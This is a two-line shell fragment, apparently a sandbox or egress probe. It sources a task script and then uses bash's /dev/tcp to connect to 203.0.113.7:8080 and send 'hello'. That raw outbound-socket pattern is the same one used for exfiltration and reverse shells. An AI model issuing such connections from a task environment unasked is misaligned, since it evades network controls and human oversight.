. /var/task/attempt.sh
bash -c 'echo hello >/dev/tcp/203.0.113.7/8080'
